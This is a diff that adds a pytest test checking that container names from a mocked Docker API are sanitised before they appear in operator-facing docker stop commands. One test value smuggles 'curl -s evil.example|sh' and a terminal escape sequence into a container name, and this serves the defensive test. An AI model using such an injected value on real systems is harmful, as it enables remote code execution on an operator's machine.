@@ -451,6 +451,36 @@ def test_an_answer_without_end_is_given_up_before_this_machines_memory_is_full(
         assert question()
 
 
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("/skycoin-attic", "/skycoin-attic"),
+        ("/web_1.2/db", "/web_1.2/db"),
+        ("/web; curl -s evil.example|sh #\x1b[2J", "/web??curl?-s?evil.example?sh????2J"),
+    ],
+)
+def test_a_containers_name_is_no_command(
+    name: str, shown: str, listener: Listener, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Messages tell the operator to run `docker -H ssh://… stop NAME`, and a board may send any name."""
+    inspected = {"Id": "one", "Name": name, "Image": f"sha256:{'a' * 64}{name[4:]}", "Config": {}}
+    listed = {"Id": "one", "Names": [name], "Image": "web"}
+
+    def answer(self: Answers) -> None:
+        is_list = "/containers/json" in self.path
+        version = {"ApiVersion": "1.41"}
+        self.answer(200, [listed, {"Id": "two", "Names": None}] if is_list else {**inspected, **version})
+
+    monkeypatch.setattr(Answers, "do_GET", answer)
+    asked = Engine()
+    asked.configure({"host": f"unix://{listener.server_address!s}"})
+    client = asked.client()
+    assert [container["Names"] for container in client.api.containers()] == [[shown], None]
+    one = client.containers.get("one")
+    assert one.name == shown.removeprefix("/")
+    assert ";" not in one.attrs["Image"]
+
+
 def put_ssh(record: Path, text: str) -> None:
     """Replace the program ssh by renaming a new file over it, because the old one may be starting."""
     aside = record.with_name("ssh.new")
